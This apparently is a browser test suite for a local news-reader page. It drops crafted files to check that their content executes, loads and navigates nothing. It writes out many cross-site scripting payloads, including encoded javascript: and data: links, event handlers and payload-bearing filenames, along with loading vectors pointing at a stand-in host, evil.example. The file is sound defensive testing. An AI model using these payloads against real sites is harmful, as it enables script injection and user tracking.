// Privacy and safety by construction: hostile file content executes,
// loads and navigates nothing, and with remote images off no request leaves
// the page's origin.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import path from 'node:path';
import {
  useSite, openPage, openReader, waitForFiles, waitForList, counts, dropFiles, sampleFiles, screenshot, PNG, WWW,
} from './helpers.mjs';

const site = useSite();

// Each vector sets window.__xss (and calls alert) if it ever runs.
const RUN = 'window.__xss=1;alert(1)';
const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r=1 /></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<body onload="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
];
const vectors = VECTORS.join(' ');

/** Hostile files in each format the core reads, vectors in titles, text, URLs and image addresses. */
function hostileFiles() {
  const rss = `<!--1711116901000-->
[布林肯 ${vectors}](javascript:${RUN})
------

<div>22/03/2024 - 15:10</div><img src="javascript:${RUN}" alt="${vectors}"><p><strong>导语 ${vectors}</strong></p><p>正文第一段 ${vectors}</p><p>正文第二段 &lt;script&gt;${RUN}&lt;/script&gt;</p>
`;
  const mirror = `### 标题 ${vectors}

---

#### [首页](javascript:${RUN})


<div><img alt="${vectors}" src="javascript:${RUN}"><div class="post_content" id="artbody"><p>【大纪元2022年01月21日讯】正文 ${vectors}</p><p>第二段 ${vectors}</p></div></div>

---

原文链接：javascript:${RUN}
`;
  const html = `<!doctype html><html><head><title>页面 ${vectors.replace(/<\/?title>/g, '')}</title>
<meta property="og:title" content="&lt;img src=x onerror=&quot;${RUN}&quot;&gt; 标题">
<meta property="og:url" content="javascript:${RUN}">
<meta property="og:image" content="javascript:${RUN}">
<script>${RUN}</script></head>
<body onload="${RUN}"><article><h1>标题 ${vectors}</h1><p>这是正文。${vectors}</p><p>第二段。<iframe srcdoc="<script>parent.__xss=1</script>"></iframe></p></article></body></html>`;
  return [
    { name: `rss-${'<img src=x onerror=alert(1)>'}.txt`, bytes: Buffer.from(rss) },
    { name: 'mirror.md', bytes: Buffer.from(mirror) },
    { name: 'page.html', bytes: Buffer.from(html) },
    { name: `<svg onload=alert(1)>.html`, bytes: Buffer.from(html) },
  ];
}

test('script in dropped files executes nothing, anywhere on the page', async () => {
  const { page, log } = await openPage(site.browser, site.origin);
  const files = hostileFiles();
  await dropFiles(page, files);
  await waitForFiles(page, files.length);
  const c = await counts(page);
  assert.equal(c.articles + c.problems, files.length);

  // Search for text in the vectors, so it is highlighted through <mark>.
  await page.getByRole('searchbox').fill('onerror');
  await waitForList(page);
  await page.getByRole('searchbox').fill('');
  await waitForList(page);
  // Open every article in the reader, with remote images both off and on.
  for (const images of [false, true]) {
    await page.locator('#remote-images').setChecked(images);
    const n = await page.locator('#list article.card').count();
    for (let i = 0; i < n; i++) {
      await openReader(page, page.locator('#list article.card').nth(i));
      await page.getByRole('dialog').getByRole('link').first().click({ timeout: 500 }).catch(() => {});
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'hidden' });
    }
  }
  await page.waitForTimeout(300);
  await screenshot(page, 'hostile-files');

  assert.equal(await page.evaluate(() => window.__xss), undefined, 'a vector ran');
  assert.deepEqual(log.dialogs, [], 'a vector opened a dialog');
  // File text is text: no element from a file made it into the DOM.
  const injected = await page.evaluate(() => document.querySelectorAll(
    'main script, main iframe, main svg, main [onerror], main [onload], main img[src="x"], #reader script, #reader iframe, #reader svg, a[href^="javascript:"]',
  ).length);
  assert.equal(injected, 0);
  const shown = await page.locator('main').textContent();
  assert.ok(shown.includes('onerror'), 'the vectors are shown as text');
  assert.ok(log.requests.every((url) => url.startsWith(site.origin)), log.requests.join('\n'));
});

test('with remote images off, a whole session makes no request beyond the origin', async () => {
  // openPage aborts and records every foreign request from the first one on.
  const { page, log } = await openPage(site.browser, site.origin);
  const files = await sampleFiles();
  await page.getByRole('button', { name: 'Try the sample corpus' }).click();
  await waitForFiles(page, files.length);
  // Browse: scroll the whole list, search, open articles.
  await page.locator('#list').evaluate((el) => { el.scrollTop = el.scrollHeight / 2; });
  await page.waitForTimeout(100);
  await page.locator('#list article.card h3').first().click();
  await page.getByRole('dialog').waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('Escape');
  await page.getByRole('searchbox').fill('美国');
  await waitForList(page);
  // The list back at its top, whatever the earlier scroll left: the cards in
  // view are then the first hits, whose lead images are on https.
  await page.locator('#list').evaluate((el) => { el.scrollTop = 0; });
  await page.waitForFunction(() => document.querySelector('#list article.card')?.dataset.index === '0');

  const placeholders = await page.locator('#list .card-media.placeholder').count();
  assert.ok(placeholders > 0, 'cards with lead images show placeholders');
  assert.match(await page.locator('#list .card-media.placeholder').first().textContent(), /^Image from [a-z0-9.-]+\.[a-z]+$/);
  // With the switch off no remote image exists at all, so none can be requested.
  assert.equal(await page.locator('img').count(), 0);
  assert.deepEqual(log.foreign, []);

  // The switch is what loads them (served here by the test, so nothing leaves
  // the machine). The wait for the request is registered before the switch
  // flips: the event itself is awaited, never read off a log.
  await page.route((url) => url.origin !== site.origin, (route) => route.fulfill({ body: PNG, contentType: 'image/png' }));
  const requested = page.waitForRequest((request) => new URL(request.url()).origin !== site.origin);
  await page.getByRole('switch', { name: 'Load remote images' }).check();
  assert.match((await requested).url(), /^https:\/\//, 'images requested once switched on');
  await page.locator('#list .card-media img').first().waitFor();
  for (const img of await page.locator('#list img').all()) {
    assert.equal(await img.getAttribute('referrerpolicy'), 'no-referrer');
    assert.match(await img.getAttribute('src'), /^https:\/\//);
  }
});

// Vectors that would load or navigate rather than run: each must stay text.
const EVIL = 'https://evil.example';
const LOADING_VECTORS = [
  `<a href="&#106;avascript:${RUN}">entity-encoded javascript</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;${RUN}">hex-encoded javascript</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==">data html</a>`,
  `<a href="data&colon;text/html,&lt;script&gt;alert(1)&lt;/script&gt;">entity-encoded data html</a>`,
  `<base href="${EVIL}/base/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<div style="background-image:url('${EVIL}/css-url.png')">css url</div>`,
  `<style>body{background:url("${EVIL}/style-url.png")}</style>`,
  `<form action="${EVIL}/form" method="post"><input name="q" value="x" autofocus><button>send</button></form>`,
  `<object data="${EVIL}/object.swf" type="application/x-shockwave-flash"></object>`,
  `<embed src="${EVIL}/embed.swf">`,
  `<svg><use href="${EVIL}/sprite.svg#icon"></use><use xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"></use></svg>`,
  `<img srcset="${EVIL}/srcset.png 2x" src="x">`,
  `<link rel="stylesheet" href="${EVIL}/sheet.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
];
const loading = LOADING_VECTORS.join(' ');

/** Files carrying the loading vectors in every field a reader takes: links, image addresses, meta, body. */
function loadingFiles() {
  const rss = `<!--1711116901000-->
[链接 ${loading}](&#106;avascript:${RUN})
------

<div>22/03/2024 - 15:10</div><img src="data:text/html,<script>${RUN}</script>" alt="${loading}"><p><strong>导语 ${loading}</strong></p><p>正文第一段 ${loading}</p><p>第二段 ${loading}</p>
`;
  const mirror = `### 标题 ${loading}

---

#### [首页](data:text/html,<script>${RUN}</script>)


<div><img alt="x" src="${EVIL}/mirror.png"><div class="post_content" id="artbody"><p>【大纪元2022年01月21日讯】正文 ${loading}</p><p>第二段 ${loading}</p></div></div>

---

原文链接：&#106;avascript:${RUN}
`;
  const html = `<!doctype html><html><head><base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/head-refresh">
<title>页面 链接测试</title><meta property="og:url" content="data:text/html,<script>${RUN}</script>">
<meta property="og:image" content="&#106;avascript:${RUN}"><link rel="stylesheet" href="${EVIL}/head.css"></head>
<body><article><h1>标题 ${loading}</h1><p>这是正文。${loading}</p><p>第二段。${loading}</p></article></body></html>`;
  return [
    { name: 'loading-rss.txt', bytes: Buffer.from(rss) },
    { name: 'loading-mirror.md', bytes: Buffer.from(mirror) },
    { name: 'loading-page.html', bytes: Buffer.from(html) },
  ];
}

test('links, bases, refreshes, CSS urls, forms, objects, embeds and SVG uses in files load and navigate nowhere', async () => {
  const { page, log } = await openPage(site.browser, site.origin);
  // Foreign requests are still recorded, and answered with an image, so the
  // one a user may ask for (a lead image, switch on) loads without an error.
  await page.route((url) => url.origin !== site.origin, (route) => {
    log.foreign.push(route.request().url());
    return route.fulfill({ body: PNG, contentType: 'image/png' });
  });
  const files = loadingFiles();
  await dropFiles(page, files);
  await waitForFiles(page, files.length);
  const c = await counts(page);
  assert.equal(c.articles + c.problems, files.length);
  assert.equal(c.articles, files.length, 'each file is an article');

  // Show every article in the list and in the reader, remote images off and on.
  for (const images of [false, true]) {
    await page.locator('#remote-images').setChecked(images);
    const n = await page.locator('#list article.card').count();
    for (let i = 0; i < n; i++) {
      const reader = await openReader(page, page.locator('#list article.card').nth(i));
      // A link in the reader is only ever the original article's http(s) address; none here.
      assert.equal(await reader.getByRole('link').count(), 0);
      await page.keyboard.press('Tab');
      await page.keyboard.press('Enter');
      await page.keyboard.press('Escape');
      await reader.waitFor({ state: 'hidden' });
    }
  }
  // A round trip through the page after the last interaction: anything the
  // DOM had started (a navigation, a request) has been dispatched by now.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));

  assert.equal(await page.evaluate(() => window.__xss), undefined, 'a vector ran');
  assert.deepEqual(log.dialogs, [], 'a vector opened a dialog');
  // The page's own view moves its fragment (view-state.js: opening an
  // article names it); nothing else may navigate it, not even in-document.
  assert.deepEqual([...new Set(log.navigations.map((url) => url.replace(/#.*/, '')))], [`${site.origin}/`], 'the page never navigated');
  for (const url of log.navigations) {
    assert.match(new URL(url).hash, /^(#(q|sort|doc)=[^&]*(&(q|sort|doc)=[^&]*)*)?$/, `only the view moved the fragment: ${url}`);
  }
  assert.deepEqual(log.popups, [], 'no window opened');
  // The only foreign address ever asked for is the mirror page's lead image,
  // once the switch asks for remote images.
  assert.deepEqual([...new Set(log.foreign)], [`${EVIL}/mirror.png`], 'no other request left the origin');
  // Same-origin requests are the page's own files only (a <base> or a
  // relative url() from a file would ask for something else).
  for (const url of log.requests.filter((u) => !log.foreign.includes(u))) {
    const { pathname } = new URL(url);
    assert.ok(existsSync(path.join(WWW, decodeURIComponent(pathname))), `unexpected request ${url}`);
  }
  // The page's own trend-terms form (trends.js) is the one form it makes.
  const injected = await page.evaluate(() => document.querySelectorAll(
    'base, meta[http-equiv="refresh"], main form:not(.trends-form), main object, main embed, main use, main style, main link, main [style*="url("], #reader form, #reader object, #reader embed, #reader use, img[srcset], a[href]:not([href^="https:"]):not([href^="http:"])',
  ).length);
  assert.equal(injected, 0, 'no element from a file made it into the DOM');
  assert.ok((await page.locator('main').textContent()).includes('http-equiv'), 'the vectors are shown as text');
  assert.deepEqual(log.errors, []);
});

test('the page forbids inline and remote scripts by policy', async () => {
  const { page, log } = await openPage(site.browser, site.origin);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /object-src 'none'/);
  assert.doesNotMatch(csp, /unsafe-inline/);
  // The policy is in force: an injected inline script does not run.
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
  });
  assert.equal(await page.evaluate(() => window.__inline), undefined);
  assert.ok(log.errors.some((e) => /Content Security Policy/i.test(e)));
});
